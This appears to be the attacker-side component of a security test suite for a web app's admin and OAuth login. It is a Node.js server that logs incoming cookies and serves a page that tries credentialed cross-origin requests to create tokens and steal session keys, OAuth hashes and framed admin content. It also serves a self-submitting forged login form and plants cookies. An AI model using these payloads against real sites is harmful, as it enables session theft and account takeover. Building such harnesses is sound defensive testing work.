// A hostile account of this machine: a server on a port of its own, which keeps the cookies that browsers send to it, uses
// them against TARGET, and serves pages that do what they can in the browser of whoever opens them.
import http from "node:http";

const target = process.env.TARGET, port = new URL(target).port;
const seen = new Map(); // path -> the last Cookie header
let toss = [], reported = [], form = {};

const HOSTILE = `<!doctype html><title>hostile</title><script type="module">
const told = [];
const tries = async (name, run) => { try { told.push([name, await run()]); } catch (e) { told.push([name, "refused"]); } };
const json = { "Content-Type": "application/json" };
for (const [mode, headers] of [["cors", json], ["cors", {}], ["no-cors", { "Content-Type": "text/plain" }]])
	for (const path of ["/admin/api/session", "/admin/api/tools/token_create"])
		await tries(mode + path, async () => (await fetch("${target}" + path, { method: "POST", mode, headers, credentials: "include", body: '{"label":"stolen","scopes":["research:read"]}' })).text());
await tries("key", async () => { const w = window.open("${target}/admin"); await new Promise((done) => setTimeout(done, 1500)); return w.sessionStorage.getItem("carrel-key"); });
await tries("hash", async () => { const w = window.open("${target}/api/oauth/login?next=%2Fadmin"); await new Promise((done) => setTimeout(done, 1500)); return w.location.hash; });
await tries("frame", async () => { const f = document.createElement("iframe"); f.src = "${target}/admin"; document.body.append(f); await new Promise((done) => f.addEventListener("load", done)); return f.contentDocument.body.innerText; });
await fetch("/report", { method: "POST", body: JSON.stringify(told) });
document.title = "done";
</script>`;

// A login form that is sent at once, with a form's token that this account got for itself.
const forged = ({ csrf, user, password }) => `<!doctype html><title>forged</title><form method="post" action="${target}/api/oauth/login">
<input name="csrf" value="${csrf}"><input name="next" value=""><input name="username" value="${user}"><input name="password" value="${password}"></form>
<script>document.forms[0].submit()</script>`;

async function attempt(path, { method = "POST", cookie, key, body, headers = {} }) {
	const response = await fetch(target + path, { method, redirect: "manual", body, headers: { Origin: target, ...(cookie && { Cookie: cookie }), ...(key && { "Carrel-Csrf": key }), ...headers } });
	return { status: response.status, location: response.headers.get("location"), cookie: response.headers.get("set-cookie"), text: await response.text() };
}

const server = http.createServer(async (request, response) => {
	const { pathname } = new URL(request.url, "http://x"), chunks = [];
	if (request.headers.cookie !== undefined) seen.set(pathname, request.headers.cookie);
	for await (const chunk of request) chunks.push(chunk);
	const body = Buffer.concat(chunks).toString(), html = (text) => { response.setHeader("Content-Type", "text/html"); response.end(text); };
	if (pathname === "/first") html(`<script>location = "/second"</script>`);
	else if (pathname === "/elsewhere") html(`<script>location = "http://127.0.0.1:${server.address().port}/first"</script>`);
	else if (pathname === "/hostile") html(HOSTILE);
	else if (pathname === "/report") { reported = JSON.parse(body); response.end(); }
	else if (pathname === "/toss") { for (const line of toss) response.appendHeader("Set-Cookie", line); html("tossed"); }
	else if (pathname === "/forged") { for (const line of toss) response.appendHeader("Set-Cookie", line); html(forged(form)); }
	else html("<title>here</title>");
});

// What the test has it do: one line of JSON each, answered by one.
async function obey({ act, ...rest }) {
	if (act === "seen") return seen.get(rest.path) ?? null;
	if (act === "reported") return reported;
	if (act === "attempt") return attempt(rest.path, rest);
	if (act === "toss") { toss = rest.lines.map((line) => line.replaceAll("PORT", port)); return true; }
	if (act === "form") { form = rest; return true; }
	return process.getuid();
}

server.listen(0, "127.0.0.1", () => process.stdout.write(`${server.address().port}\n`));
let rest = "";
process.stdin.setEncoding("utf8").on("data", async (text) => {
	const lines = (rest + text).split("\n");
	rest = lines.pop();
	for (const line of lines) process.stdout.write(`${JSON.stringify(await obey(JSON.parse(line)))}\n`);
}).on("end", () => process.exit(0));
